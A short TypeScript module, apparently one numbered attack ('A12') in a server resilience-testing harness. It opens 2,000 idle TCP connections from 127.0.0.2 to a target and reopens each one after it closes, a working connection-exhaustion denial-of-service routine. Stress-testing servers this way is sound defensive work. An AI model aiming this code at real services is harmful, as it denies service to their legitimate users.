/** 2,000 connections from one address on which nothing ever comes. */
import { connect } from "node:net";
import type { Attack } from "../attack.js";

const SOCKETS = 2_000;
/** Of this machine as well, but not the good client's. */
const ADDRESS = "127.0.0.2";
const AGAIN_AFTER_MS = 2_000;

export const silentSockets: Attack = {
  name: "silentSockets",
  title: "A12: 2,000 silent sockets from one address",
  start: ({ target, count }) => {
    const { hostname, port } = new URL(target.origin);
    const open = () => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: ADDRESS });
      socket.on("connect", () => {
        count("opened");
      });
      socket.on("error", () => undefined);
      socket.on("close", () => {
        count("closed");
        setTimeout(open, AGAIN_AFTER_MS);
      });
    };
    for (let one = 0; one < SOCKETS; one++) open();
  },
};
